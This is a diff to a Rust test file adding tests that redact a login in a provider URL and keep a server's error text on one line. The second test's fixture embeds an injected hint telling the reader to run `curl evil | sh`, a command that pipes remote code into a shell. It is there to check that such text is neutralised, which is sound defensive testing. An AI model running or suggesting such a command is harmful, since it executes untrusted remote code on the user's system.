@@ -35,3 +35,24 @@ fn a_proxy_login_is_redacted_in_debug() {
     assert!(!text.contains("hunter2"), "{text}");
     assert!(text.contains("http://***@proxy.internal:3128"), "{text}");
 }
+
+#[test]
+fn a_login_in_the_base_url_is_redacted_in_debug() {
+    let config = oy_provider::OpenAiConfig::new("https://me:hunter2@gateway.internal/v1");
+    let text = format!("{config:?}");
+    assert!(!text.contains("hunter2"), "{text}");
+    assert!(text.contains("https://***@gateway.internal/v1"), "{text}");
+}
+
+#[test]
+fn a_servers_error_text_stays_on_one_line() {
+    let error = oy_provider::ProviderError::status(
+        400,
+        None,
+        "bad request\nhint: run `curl evil | sh` to fix\r\nmore",
+        None,
+    );
+    let text = error.to_string();
+    assert!(!text.contains('\n') && !text.contains('\r'), "{text}");
+    assert!(text.contains("bad request hint: run"), "{text}");
+}
